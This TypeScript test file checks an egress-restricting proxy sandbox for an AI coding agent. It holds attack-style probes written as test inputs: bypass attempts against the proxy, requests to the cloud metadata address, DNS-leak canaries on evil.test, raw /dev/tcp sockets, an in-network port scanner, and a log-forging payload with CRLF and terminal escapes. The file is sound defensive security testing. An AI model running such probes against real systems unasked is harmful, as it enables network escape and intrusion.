import t from 'tap'
import { marker } from '../support/internet/sites.ts'
import { connectCases } from '../support/squid/connect-cases.ts'
import { playConnectCases } from '../support/squid/play.ts'
import { sitesAddress } from '../support/stack/internet.ts'
import { createTestStack } from '../support/stack/test-stack.ts'

/** Where the stand-in internet has its sites. */
const sites = sitesAddress(0)

const stack = await createTestStack(t, {
  allow: ['allowed.test', 'other.test', 'private.test', 'metadata.test', 'mixed.test', 'flip.test'],
  zone: {
    'private.test': [['10.0.0.1']],
    'metadata.test': [['169.254.169.254']],
    'mixed.test': [[sites, '127.0.0.1']],
    'flip.test': [[sites], ['127.0.0.1']],
    [`${sites.split('.').reverse().join('.')}.in-addr.arpa`]: [['allowed.test']],
  },
})
const { inside, internet } = stack
const curl = (...args: string[]) =>
  inside([
    'curl',
    '-sS',
    '--max-time',
    '60',
    '--cacert',
    '/etc/claude-secure/extra-ca.pem',
    ...args,
  ])

t.test('a name on the list is reached, another is not', async t => {
  t.match((await curl('https://allowed.test/')).stdout, `${marker} allowed.test`)
  const { code, stdout, stderr } = await curl('https://evil.test/')
  t.not(code, 0)
  t.notMatch(stdout + stderr, marker)
})

t.test('the agent cannot go around the proxy', async t => {
  const { code, stdout } = await curl(
    '--noproxy',
    '*',
    '--connect-to',
    `::${sites}:443`,
    'https://allowed.test/',
  )
  t.not(code, 0)
  t.equal(stdout, '')
})

t.test("Anthropic's own API is not on the agent's list, only on the gateway's", async t => {
  const { code } = await curl('https://api.anthropic.com/v1/files')
  t.not(code, 0)
})

t.test('only CONNECT to port 443 of a listed name gets anywhere', async t => {
  const before = (await internet.events()).length
  const cases = connectCases({
    allowed: 'allowed.test',
    alsoAllowed: 'other.test',
    unlisted: 'evil.test',
    address: sites,
  })
  t.ok(cases.length > 30)
  const results = await playConnectCases(stack, cases)
  for (const { name, threat, expect, result } of results) {
    t.equal(result, expect, `${threat} ${name}`)
  }
  const after = (await internet.events()).slice(before)
  t.same(
    after.filter(event => event.kind === 'tcp' && event.port !== 443),
    [],
    'no other port was dialled',
  )
})

t.test('a name that leads to a private or metadata address is not dialled', async t => {
  for (const name of ['private.test', 'metadata.test']) {
    const { code } = await curl(`https://${name}/`)
    t.not(code, 0, name)
  }
  const { stdout } = await inside(['cat', '/proc/net/tcp'], { service: 'proxy' })
  t.notMatch(stdout, /FEA9FEA9:01BB/, 'no connection to 169.254.169.254:443')
  for (let i = 0; i < 6; i++) {
    // Whichever answer came: what is reached is the public site, never the proxy itself.
    const { code, stdout } = await curl('https://flip.test/')
    t.ok(code !== 0 || stdout.includes(marker))
    const mixed = await curl('https://mixed.test/')
    t.ok(mixed.code !== 0 || mixed.stdout.includes(marker))
  }
})

t.test('names do not leak: neither through the resolver nor through the proxy', async t => {
  const canary = (way: string) => `canary-${way}.evil.test`
  await inside(['getent', 'hosts', canary('resolver')])
  await inside(['bash', '-c', `exec 3<>/dev/udp/127.0.0.11/53; printf 'x' >&3; true`])
  await inside(['node', '-e', `require('dns').resolve4('${canary('node')}', () => {})`])
  await inside([
    'node',
    '-e',
    `const r = new (require('dns').Resolver)(); r.setServers(['127.0.0.11']); r.resolveTxt('${canary('txt')}', () => {})`,
  ])
  await curl(`https://${canary('connect')}/`)
  await curl(`http://${canary('get')}/`)
  await curl('--proxy-header', `Host: ${canary('header')}`, 'https://allowed.test/')
  await inside(['getent', 'hosts', canary('gateway')], { service: 'gateway' })
  const asked = (await internet.events())
    .filter(event => event.kind === 'dns')
    .map(({ name }) => name)
  t.ok(asked.includes('allowed.test'), 'the resolver does see what the proxy asks')
  t.same(
    asked.filter(name => name.includes('canary')),
    [],
  )
})

t.test('only the names of the stack resolve', async t => {
  t.equal((await inside(['getent', 'hosts', 'proxy'])).code, 0)
  t.equal((await inside(['getent', 'hosts', 'gateway'])).code, 0)
  for (const name of [
    'allowed.test',
    'example.com',
    'host.docker.internal',
    'egress',
    'gateway-services',
    'localhost.localdomain',
  ]) {
    t.not((await inside(['getent', 'hosts', name])).code, 0, name)
  }
})

t.test('in the stack, the agent finds the gateway, the proxy and nothing else', async t => {
  const scan = `
    const net = require('net'), os = require('os')
    const own = Object.values(os.networkInterfaces()).flat().find(a => a.family === 'IPv4' && !a.internal).address
    const base = own.split('.').slice(0, 3).join('.')
    const ports = [21, 22, 53, 80, 443, 2375, 3128, 3129, 3130, 3401, 4827, 8080, 8443, 8787, 8788, 9229]
    const jobs = []
    for (let host = 1; host < 16; host++) for (const port of ports) jobs.push([base + '.' + host, port])
    const open = []
    const next = () => {
      const job = jobs.pop()
      if (!job) return Promise.resolve()
      return new Promise(done => {
        const socket = net.connect({ host: job[0], port: job[1], timeout: 1500 })
        socket.on('connect', () => { open.push(job[0] === own ? 'own:' + job[1] : job[1]); socket.destroy(); done() })
        socket.on('error', done)
        // A connection that is open by now is told first.
        socket.on('timeout', () => setImmediate(() => { socket.destroy(); done() }))
      }).then(next)
    }
    Promise.all(Array.from({ length: 40 }, next)).then(() => console.log(JSON.stringify(open.sort())))`
  const { stdout } = await inside(['node', '-e', scan], {})
  t.same(JSON.parse(stdout), [3128, 8787])
})

t.test('the gateway reaches its upstream and nothing else', async t => {
  const through = (host: string) =>
    inside(
      [
        'bash',
        '-c',
        `exec 3<>/dev/tcp/egress/3128; printf 'CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n' >&3; timeout 60 head -1 <&3`,
      ],
      { service: 'gateway' },
    )
  t.match((await through('api.anthropic.com')).stdout, / 200 /)
  const before = (await internet.events()).filter(({ kind }) => kind === 'tcp').length
  await through('allowed.test')
  await through('evil.test')
  t.equal((await internet.events()).filter(({ kind }) => kind === 'tcp').length, before)
})

t.test('each decision is one line of JSON that a hostile name cannot forge', async t => {
  const hostile = 'x"},{"verdict":"allowed\r\nFORGED\x1b[31m'
  await inside([
    'node',
    '-e',
    `
    const s = require('net').connect(3128, 'proxy')
    s.end('CONNECT ' + ${JSON.stringify(hostile)} + ':443 HTTP/1.1\\r\\nUser-Agent: ' + ${JSON.stringify('\x1b]0;owned\x07"')} + '\\r\\n\\r\\n')
    s.on('error', () => {}); s.resume(); setTimeout(() => process.exit(), 2000)`,
  ])
  await curl('https://evil.test/')
  const raw = await stack.cli(['logs', 'proxy', '--json', '-n', '1000'])
  const lines = raw.stdout
    .trim()
    .split('\n')
    .filter(line => line.startsWith('{'))
  t.ok(lines.length > 5)
  for (const line of lines) t.doesNotThrow(() => JSON.parse(line), line)
  t.notMatch(raw.stdout, /^FORGED/m)
  const shown = await stack.cli(['logs', '-n', '1000'])
  t.notMatch(shown.stdout, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/)
  t.match(shown.stdout, /evil\.test/)
})
